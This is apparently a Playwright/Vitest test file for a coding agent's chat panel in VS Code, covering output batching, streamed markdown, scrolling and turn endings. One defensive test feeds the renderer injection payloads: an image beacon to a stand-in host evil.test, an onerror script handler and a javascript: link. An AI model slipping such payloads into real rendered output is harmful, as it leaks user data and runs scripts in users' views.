import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import type { SessionEvent } from '../../../src/protocol/events.ts'
import { emptySession, replay } from '../../../src/protocol/state.ts'
import { START, step, turn, type Asked } from './events.ts'
import { launchBrowser } from '../../support/vscode/browser.ts'
import { openPanel, setTime, twoFrames } from './harness.ts'
import { READY, type Scene } from './scenes.ts'

let browser: Browser
beforeAll(async () => {
  browser = await launchBrowser()
})
afterAll(() => browser.close())

function sixty(): Scene {
  const calls = Array.from({ length: 60 }, (_, i): Asked => ({
    id: `c${i}`,
    name: 'terminal',
    summary: `job ${i}`,
    at: [0, 0],
  }))
  return { now: 3000, environment: READY, events: [turn('t1', 'All at once.'), ...step('t1', 's1', '', 0, calls)] }
}

function output(callId: string, text: string): SessionEvent {
  return { type: 'callOutput', at: START + 3000, turnId: 't1', callId, text }
}

const said = (text: string, stepId = 's1'): SessionEvent => ({
  type: 'textAdded',
  at: START + 600,
  turnId: 't1',
  stepId,
  text,
})

describe('a burst of output', () => {
  it('of 60 calls with 1000 lines each is drawn in few batches, and only what is open and changed', async () => {
    const opened = await openPanel(browser, sixty(), { reducedMotion: true })
    const { page, send } = opened
    await page.evaluate(`{
      window.batches = 0
      window.nodes = 0
      new MutationObserver((list) => {
        window.batches++
        for (const { addedNodes } of list) window.nodes += addedNodes.length
      }).observe(document.querySelector('#log'), { childList: true, characterData: true, subtree: true })
    }`)
    for (let slice = 0; slice < 10; slice++) {
      const events = Array.from({ length: 6000 }, (_, i) => output(`c${i % 60}`, `slice ${slice} line ${i}\n`))
      await send({ type: 'events', sessionId: 's', events })
    }
    await twoFrames(page)
    await twoFrames(page)
    await setTime(opened, 3001)
    // 60,000 events: a batch a frame, and one for each card that opens by itself.
    expect(await page.evaluate('window.batches')).toBeLessThan(150)
    expect(await page.evaluate('window.nodes')).toBeLessThan(2000)
    await page.getByRole('button', { name: 'Stop', exact: true }).click()
    expect(await page.getByRole('status').textContent()).toContain('Stopping …')
    await opened.close()
  })

  it('shows the last six lines, says how many stand above, and opens by itself after two seconds', async () => {
    const { page, events, close } = await openPanel(browser, sixty())
    await events(output('c7', Array.from({ length: 44 }, (_, i) => `line ${i}\n`).join('')))
    const card = page.locator('[data-call-id=c7]')
    await card.locator('pre').waitFor()
    expect(await card.locator('pre').textContent()).toBe([38, 39, 40, 41, 42, 43].map((i) => `line ${i}`).join('\n'))
    expect(await card.locator('.note').textContent()).toBe('38 lines above')
    await close()
  })

  it('closes again a second after success, unless the user had touched it', async () => {
    const { page, events, close } = await openPanel(browser, sixty())
    await events(output('c1', 'one\n'), output('c2', 'two\n'))
    await page.locator('[data-call-id=c2] pre').click()
    const ended = (callId: string): SessionEvent =>
      ({
        type: 'callEnded',
        at: START + 3000,
        turnId: 't1',
        callId,
        status: 'completed',
        result: '',
        exitCode: 0,
      }) as const
    await events(ended('c1'), ended('c2'))
    await page.locator('[data-call-id=c1] pre').waitFor({ state: 'detached' })
    expect(await page.locator('[data-call-id=c2] pre').count()).toBe(1)
    await close()
  })
})

describe('streamed words', () => {
  const begun: Scene = {
    now: 600,
    environment: READY,
    events: [turn('t1', 'Explain.'), { type: 'stepStarted', at: START, turnId: 't1', stepId: 's1', model: 'm' }],
  }

  it('never draw a closed block again', async () => {
    const { page, events, close } = await openPanel(browser, begun)
    await events(said('# Title\n\nFirst **paragraph**.\n\nSecond'))
    await page.locator('.prose p').nth(1).waitFor()
    await page.evaluate(`window.first = document.querySelector('.prose p')`)
    for (let i = 0; i < 20; i++) await events(said(` word${i}`))
    await page.getByText('word19').waitFor()
    expect(await page.evaluate(`window.first === document.querySelector('.prose p')`)).toBe(true)
    expect(await page.locator('.prose p').first().innerHTML()).toBe('First <strong>paragraph</strong>.')
    await close()
  })

  it('navigate nowhere, load nothing and run nothing', async () => {
    const { page, events, errors, posted, close } = await openPanel(browser, begun)
    const asked: string[] = []
    page.on('request', (request) => asked.push(request.url()))
    await events(
      said(
        '![pixel](https://evil.test/?data=1) <img src=x onerror="window.hit=1"> [run](javascript:window.hit=1) [site](https://a.test/x)\n\n',
      ),
      { type: 'stepEnded', at: START + 700, turnId: 't1', stepId: 's1' },
    )
    await page.getByText('site').click()
    expect((await posted()).at(-1)).toEqual({ type: 'openLink', href: 'https://a.test/x' })
    expect(await page.locator('#log img, #log [href], #log [src]').count()).toBe(0)
    expect(await page.evaluate('window.hit')).toBeUndefined()
    expect([...asked, ...errors]).toEqual([])
    await close()
  })

  it('are followed at the end only, and then by a button', async () => {
    const { page, events, close } = await openPanel(browser, begun, { height: 400 })
    const lines = (n: number): string => Array.from({ length: n }, (_, i) => `Paragraph ${i}.\n\n`).join('')
    const below = `(() => { const log = document.querySelector('#log'); return log.scrollHeight - log.scrollTop - log.clientHeight })()`
    await events(said(lines(40)))
    await page.getByText('Paragraph 39.').waitFor()
    await twoFrames(page)
    expect(await page.evaluate(below)).toBeLessThan(2)
    await page.evaluate(`document.querySelector('#log').scrollTop = 100`)
    await twoFrames(page)
    await events(said('The end.\n\nMore.'))
    await page.getByText('The end.').waitFor({ state: 'attached' })
    await page.getByRole('button', { name: 'New below' }).click()
    await twoFrames(page)
    expect(await page.evaluate(below)).toBeLessThan(2)
    expect(await page.getByRole('button', { name: 'New below' }).count()).toBe(0)
    await close()
  })
})

describe('a row that the user opens', () => {
  it('stays where it is, and the transcript goes on following its end after', async () => {
    const { page, events, close } = await openPanel(browser, 'running', { height: 500 })
    const top = async (): Promise<number | undefined> =>
      (await page.locator('[data-call-id=c10] .row').boundingBox())?.y
    const before = await top()
    await page.locator('[data-call-id=c10] .open').click()
    await twoFrames(page)
    expect(await top()).toBe(before)
    await page.getByRole('log').evaluate((log) => void (log.scrollTop = log.scrollHeight))
    await twoFrames(page)
    await page.getByRole('button', { name: '1 needs your answer' }).click()
    await twoFrames(page)
    await twoFrames(page)
    const next: SessionEvent = { type: 'stepStarted', at: START + 17_000, turnId: 't1', stepId: 's3', model: 'm' }
    await events(next, said(`${'More. '.repeat(200)}\n\nMore.`, 's3'))
    await page.getByText('More. More.').waitFor({ state: 'attached' })
    await twoFrames(page)
    const below = await page.evaluate(
      '(() => { const log = document.querySelector("#log"); return log.scrollHeight - log.scrollTop - log.clientHeight })()',
    )
    expect(below).toBeLessThan(2)
    await close()
  })
})

describe('a hidden view', () => {
  it('draws nothing, and all of it on return', async () => {
    const { page, send, close } = await openPanel(browser, sixty())
    const hide = (hidden: boolean): Promise<unknown> =>
      page.evaluate(`{
        Object.defineProperty(document, 'visibilityState', { value: '${hidden ? 'hidden' : 'visible'}', configurable: true })
        document.dispatchEvent(new Event('visibilitychange'))
      }`)
    await hide(true)
    await page.evaluate(`{
      window.drawn = 0
      new MutationObserver(() => window.drawn++).observe(document.querySelector('#log'), { childList: true, subtree: true, attributes: true, attributeFilter: ['data-call-status'] })
    }`)
    const ended = (i: number): SessionEvent =>
      ({ type: 'callEnded', at: START + 4000, turnId: 't1', callId: `c${i}`, status: 'completed', result: '' }) as const
    const events = Array.from({ length: 60 }, (_, i) => ended(i))
    await send({ type: 'events', sessionId: 's', events })
    await twoFrames(page)
    expect(await page.evaluate('window.drawn')).toBe(0)
    expect(await page.locator('[data-call-status=running]').count()).toBe(60)
    await hide(false)
    await twoFrames(page)
    expect(await page.locator('[data-call-status=completed]').count()).toBe(60)
    await close()
  })
})

describe('the end of a turn', () => {
  it('folds its steps, except one that the user opened', async () => {
    const calls = (from: string): Asked[] =>
      ['a', 'b'].map((id) => ({ id: from + id, name: 'terminal', summary: from + id, at: [0, 0, 900] }))
    const scene: Scene = {
      now: 3000,
      environment: READY,
      kept: { steps: { s1: true } },
      events: [turn('t1', 'Go.'), ...step('t1', 's1', '', 0, calls('x')), ...step('t1', 's2', '', 1000, calls('y'))],
    }
    const { page, events, close } = await openPanel(browser, scene)
    expect(await page.locator('[data-call-id]:visible').count()).toBe(4)
    await events({ type: 'turnEnded', at: START + 3000, turnId: 't1', status: 'stopped' })
    expect(await page.locator('[data-call-id]:visible').count()).toBe(2)
    expect(await page.getByRole('status').textContent()).toContain('Stopped')
    expect(await page.locator('.foot').textContent()).toMatch(/^Stopped after 3\.0.s4 callsRestore checkpoint$/)
    await close()
  })

  it('shows a new session in place of the old one, and keeps the draft', async () => {
    const { page, send, close } = await openPanel(browser, 'done')
    await page.getByRole('textbox', { name: 'Message Stretto' }).fill('half a thought')
    await send({ type: 'snapshot', state: emptySession('other'), environment: READY })
    await twoFrames(page)
    expect(await page.locator('[data-call-id]').count()).toBe(0)
    await send({ type: 'snapshot', state: replay('s', sixty().events), environment: READY })
    await twoFrames(page)
    expect(await page.locator('[data-call-id]').count()).toBe(60)
    expect(await page.getByRole('textbox', { name: 'Message Stretto' }).inputValue()).toBe('half a thought')
    await close()
  })
})
